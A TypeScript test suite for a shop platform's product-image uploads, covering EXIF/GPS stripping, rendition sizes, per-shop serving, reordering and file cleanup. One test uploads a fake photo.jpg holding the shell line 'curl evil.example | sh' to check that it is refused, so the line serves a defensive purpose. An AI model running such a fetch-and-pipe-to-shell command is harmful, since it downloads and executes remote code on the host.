import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eicar } from '../../../test/clamd.js';
import { createTestApp, signUp, type TestApp } from '../../../test/harness.js';
import { multipart } from '../../../test/multipart.js';
import { systemContext } from '../../core/context.js';
import { shopFilesPrefix } from '../../core/files/file-store.js';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ env: { PLATFORM_DOMAIN: 'shops.test', UPLOAD_LIMIT_BYTES: String(2 * 1024 * 1024) } });
});
afterAll(async () => {
  await t?.close();
});

let n = 0;
async function shopWithProduct() {
  const { cookie } = await signUp(t.app);
  const slug = `img-${process.pid}-${++n}`;
  const shop = (
    await t.app.inject({ method: 'POST', url: '/api/v1/shops', headers: { cookie }, payload: { slug, name: 'Fotos' } })
  ).json();
  const product = (
    await t.app.inject({
      method: 'POST',
      url: `/api/v1/shops/${shop.id}/products`,
      headers: { cookie },
      payload: {
        title: 'Caneca',
        handle: 'caneca',
        status: 'active',
        variants: [{ sku: 'C-1', priceCents: 900, stock: 5 }],
      },
    })
  ).json();
  const upload = (file: Buffer, filename: string, type: string, alt = '') => {
    const body = multipart([
      { name: 'alt', value: alt },
      { name: 'file', value: file, filename, type },
    ]);
    return t.app.inject({
      method: 'POST',
      url: `/api/v1/shops/${shop.id}/products/${product.id}/images`,
      headers: { cookie, ...body.headers },
      payload: body.payload,
    });
  };
  const files = () => t.platform.files.list(shopFilesPrefix(shop.id));
  const host = `${slug}.shops.test`;
  return { cookie, shop, product, upload, files, host };
}

/** A photo as a phone takes it: EXIF with the camera and the GPS position of where it was taken. */
const photoWithGps = () =>
  sharp({ create: { width: 1200, height: 900, channels: 3, background: '#c0392b' } })
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Phone 12', Copyright: 'Zé' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '38/1 42/1 2520/100',
        GPSLongitudeRef: 'W',
        GPSLongitude: '9/1 8/1 3000/100',
      },
    })
    .png()
    .toBuffer();

describe('product images (#10 §2)', () => {
  it('stores a photo in every size as AVIF and WebP, with its EXIF and GPS position gone', async () => {
    const s = await shopWithProduct();
    const photo = await photoWithGps();
    const exif = (await sharp(photo).metadata()).exif;
    expect(exif?.toString('latin1')).toContain('PhoneMaker');

    const res = await s.upload(photo, 'holiday.png', 'image/png', 'Caneca vermelha');
    expect(res.statusCode, res.body).toBe(201);
    const image = res.json();
    expect(image).toMatchObject({
      width: 1200,
      height: 900,
      sourceType: 'image/png',
      alt: 'Caneca vermelha',
      position: 1,
    });
    expect(image.renditions.map((r: { width: number; format: string }) => `${r.width}.${r.format}`).sort()).toEqual([
      '1024.avif',
      '1024.webp',
      '1200.avif',
      '1200.webp',
      '160.avif',
      '160.webp',
      '320.avif',
      '320.webp',
      '640.avif',
      '640.webp',
    ]);
    const stored = await s.files();
    expect(stored).toHaveLength(10);
    for (const key of stored) {
      const bytes = (await t.platform.files.get(key))!;
      const meta = await sharp(bytes).metadata();
      expect(meta.exif, key).toBeUndefined();
      expect(meta.xmp, key).toBeUndefined();
      expect(bytes.toString('latin1'), key).not.toContain('PhoneMaker');
    }
  });

  it('refuses a script renamed .jpg, an EICAR file and an oversized file, storing nothing; refusals are audited', async () => {
    const s = await shopWithProduct();
    const script = await s.upload(Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'photo.jpg', 'image/jpeg');
    expect(script.statusCode).toBe(422);
    expect(script.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(script.json().errors).toEqual([expect.objectContaining({ field: 'file' })]);

    const virus = await s.upload(eicar, 'eicar.png', 'image/png');
    expect(virus.statusCode).toBe(422);
    expect(virus.json().errors[0].message).toMatch(/anti-virus/);

    const big = await s.upload(Buffer.alloc(3 * 1024 * 1024, 1), 'huge.png', 'image/png');
    expect(big.statusCode).toBe(413);

    expect(await s.files()).toEqual([]);
    const listed = await t.app.inject({
      method: 'GET',
      url: `/api/v1/shops/${s.shop.id}/products/${s.product.id}/images`,
      headers: { cookie: s.cookie },
    });
    expect(listed.json().items).toEqual([]);
    const refusals = await t.platform.db
      .selectFrom('audit_log')
      .select('data')
      .where('action', '=', 'media.upload_refused')
      .where('target_id', '=', s.product.id)
      .execute();
    expect(refusals.map((r) => (r.data as { reason: string[] }).reason[0]).sort()).toEqual([
      'infected',
      'not_an_image',
    ]);
  });

  it('shows images on the storefront with srcset, serves their files for a year, and only on their own shop', async () => {
    const s = await shopWithProduct();
    const other = await shopWithProduct();
    const image = (await s.upload(await photoWithGps(), 'a.png', 'image/png', 'Caneca ao sol')).json();
    const page = await t.app.inject({ method: 'GET', url: '/products/caneca', headers: { host: s.host } });
    expect(page.body).toContain(`srcset="/images/${image.id}/160.avif 160w, /images/${image.id}/320.avif 320w`);
    expect(page.body).toMatch(
      /<img src="\/images\/img_[0-9a-z]+\/640\.webp" alt="Caneca ao sol" width="1200" height="900" fetchpriority="high"/,
    );
    const card = await t.app.inject({ method: 'GET', url: '/collections/all', headers: { host: s.host } });
    expect(card.body).toContain(`/images/${image.id}/320.webp 320w`);

    const file = await t.app.inject({ method: 'GET', url: `/images/${image.id}/320.webp`, headers: { host: s.host } });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('image/webp');
    expect(file.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect((await sharp(file.rawPayload).metadata()).width).toBe(320);
    // Another shop's host does not serve it; nor does a made-up size.
    expect(
      (await t.app.inject({ method: 'GET', url: `/images/${image.id}/320.webp`, headers: { host: other.host } }))
        .statusCode,
    ).toBe(404);
    expect(
      (await t.app.inject({ method: 'GET', url: `/images/${image.id}/321.webp`, headers: { host: s.host } }))
        .statusCode,
    ).toBe(404);
  });

  it('reorders and re-describes images; a removed image’s files go, and a removed product’s too', async () => {
    const s = await shopWithProduct();
    const first = (await s.upload(await photoWithGps(), 'a.png', 'image/png')).json();
    const second = (await s.upload(await photoWithGps(), 'b.png', 'image/png')).json();
    const moved = await t.app.inject({
      method: 'PATCH',
      url: `/api/v1/shops/${s.shop.id}/products/${s.product.id}/images/${second.id}`,
      headers: { cookie: s.cookie },
      payload: { position: 1, alt: 'De frente' },
    });
    expect(moved.json()).toMatchObject({ position: 1, alt: 'De frente' });
    const order = await t.app.inject({
      method: 'GET',
      url: `/api/v1/shops/${s.shop.id}/products/${s.product.id}/images`,
      headers: { cookie: s.cookie },
    });
    expect(order.json().items.map((i: { id: string }) => i.id)).toEqual([second.id, first.id]);

    const removed = await t.app.inject({
      method: 'DELETE',
      url: `/api/v1/shops/${s.shop.id}/products/${s.product.id}/images/${first.id}`,
      headers: { cookie: s.cookie },
    });
    expect(removed.statusCode).toBe(204);
    await t.platform.jobs.runDue();
    expect((await s.files()).every((k) => k.includes(second.id))).toBe(true);
    expect(await s.files()).toHaveLength(10);

    await t.app.inject({
      method: 'DELETE',
      url: `/api/v1/shops/${s.shop.id}/products/${s.product.id}`,
      headers: { cookie: s.cookie },
    });
    await t.platform.jobs.runDue();
    expect(await s.files()).toEqual([]);
  });

  it('goes with its shop: removing the shop removes its files', async () => {
    const s = await shopWithProduct();
    await s.upload(await photoWithGps(), 'a.png', 'image/png');
    expect((await s.files()).length).toBeGreaterThan(0);
    await t.platform.shops.removeShop(systemContext(new Date()), s.shop.id);
    expect(await s.files()).toEqual([]);
  });
});
